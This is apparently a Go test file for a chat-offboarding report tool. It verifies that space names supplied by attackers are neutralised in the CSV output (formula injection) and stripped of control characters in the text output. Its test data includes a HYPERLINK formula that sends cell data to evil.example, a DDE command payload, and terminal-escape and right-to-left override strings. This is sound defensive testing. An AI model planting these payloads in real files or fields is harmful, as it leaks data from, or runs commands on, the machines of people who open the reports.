package report_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/chat-offboard/chat-offboard/ledger"
	"github.com/chat-offboard/chat-offboard/report"
)

// hostile writes a sweep "hx" whose spaces are named by an attacker: any
// Workspace user can name a space, and the name is written into the report
// of everyone removed from it.
func hostile(t *testing.T, names ...string) *report.Report {
	t.Helper()
	s := ledger.NewMemory()
	t.Cleanup(func() { s.Close() })
	w := writer{t, s}
	w.request("hx", "sweep", "1 person from every space")
	for i, n := range names {
		sp := "spaces/S" + string(rune('a'+i))
		w.decide("hx", res("hx/"+sp, sp+"/members/1", "failed", "spaceDisplayName", n, "member", member("users/1"),
			"error", map[string]any{"code": 403, "status": "PERMISSION_DENIED", "message": n}, "detail", n))
	}
	rep, err := report.Build(ctxT(t), s, "hx")
	if err != nil {
		t.Fatal(err)
	}
	return rep
}

// TestCSVNeutralisesFormulas: a space named "=HYPERLINK(...)" (or anything
// else a spreadsheet reads as a formula: +, -, @, tab, carriage return
// first) reaches the CSV as text, with a single quote in front, as OWASP
// advises; a harmless name is left alone. Before the fix the name was
// written raw and opened as a live formula.
func TestCSVNeutralisesFormulas(t *testing.T) {
	formulas := []string{
		`=HYPERLINK("https://evil.example/?"&A1,"Click")`,
		"+1+cmd|' /C calc'!A0",
		"-2+3",
		"@SUM(1+1)",
		"\t=1+1",
		"\r=1+1",
	}
	plain := []string{"Payroll", "a=b", "'quoted already"}
	rep := hostile(t, append(formulas, plain...)...)
	var b bytes.Buffer
	if err := rep.WriteCSV(&b); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	got := map[string]bool{}
	for _, r := range recs[1:] {
		for _, c := range r {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("cell %q begins as a formula", c)
			}
		}
		got[r[col["space_display_name"]]] = true
		if r[col["error_message"]] != r[col["space_display_name"]] || r[col["detail"]] != r[col["space_display_name"]] {
			t.Errorf("message %q and detail %q not neutralised like the name %q", r[col["error_message"]], r[col["detail"]], r[col["space_display_name"]])
		}
	}
	for _, f := range formulas {
		if !got["'"+f] {
			t.Errorf("%q is not in the CSV as '%s: %v", f, f, got)
		}
	}
	for _, p := range plain {
		if !got[p] {
			t.Errorf("the harmless %q changed: %v", p, got)
		}
	}
}

// TestTextStripsControls: the text report carries no C0, C1 or
// bidirectional control from a space's name, an error message or a detail
// (an escape sequence that recolours the terminal, a right-to-left
// override that shows "exe.txt" for "txt.exe"), while the words around
// them stay.
func TestTextStripsControls(t *testing.T) {
	names := []string{
		"Pay\u202eroll\u202c", "Ops\u2066x\u2069\u200e\u200f\u061c",
		"red\u009b31mC1", "esc\x1b[2Jclear", "del\x7fete", "bell\a\vtab\tnl\ncr\r",
	}
	rep := hostile(t, names...)
	var b strings.Builder
	if err := rep.WriteText(&b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, r := range out {
		if (r < 0x20 && r != '\n') || r == 0x7f || r >= 0x80 && r <= 0x9f ||
			r == 0x061c || r == 0x200e || r == 0x200f || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069 {
			t.Errorf("the text report carries control %U:\n%q", r, out)
		}
	}
	for _, want := range []string{"Payroll", "Opsx", "red31mC1", "esc [2Jclear", "delete", "bell  tab nl cr "} {
		if !strings.Contains(out, want) {
			t.Errorf("the text report lacks %q:\n%s", want, out)
		}
	}
}
